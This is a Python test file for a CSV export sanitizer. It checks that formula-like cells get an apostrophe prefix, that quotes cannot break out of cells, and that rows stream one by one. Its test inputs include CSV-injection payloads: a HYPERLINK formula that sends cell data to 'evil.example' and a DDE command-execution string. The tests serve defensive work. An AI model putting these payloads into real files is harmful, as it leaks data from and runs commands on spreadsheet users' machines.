"""CSV that a spreadsheet can't take for formulas (OWASP, CSV Injection)."""

import csv
import io

import pytest

from core.csv import csv_lines, harmless


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
        "|calc",
        "%0A=1+1",
        " =1+1",
        "   @SUM(A1)",
        "\u00a0=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1+1)",
    ],
)
def test_what_a_spreadsheet_would_calculate_gets_an_apostrophe(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("Ana Reyes", "Ana Reyes"),
        ("1=1", "1=1"),
        ("a@b.example", "a@b.example"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (-0.25, "-0.25"),
        (0, "0"),
        (True, "True"),
    ],
)
def test_everything_else_stays_as_it_is(value, text):
    assert harmless(value) == text


def test_a_separator_or_quote_cannot_open_a_new_cell():
    rows = [['x",=1+1', "a;b"], ['",\n=1+1', "line\nbreak"]]

    text = "".join(csv_lines(["=name", "note"], rows))

    assert text.startswith("\ufeff'=name,note\r\n")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["'=name", "note"],
        *rows,
    ]


def test_a_thousand_rows_are_streamed_one_by_one():
    lines = csv_lines(["n"], ([number] for number in range(1000)))

    assert next(lines) == "\ufeffn\r\n"
    assert next(lines) == "0\r\n"
    assert sum(1 for _ in lines) == 999
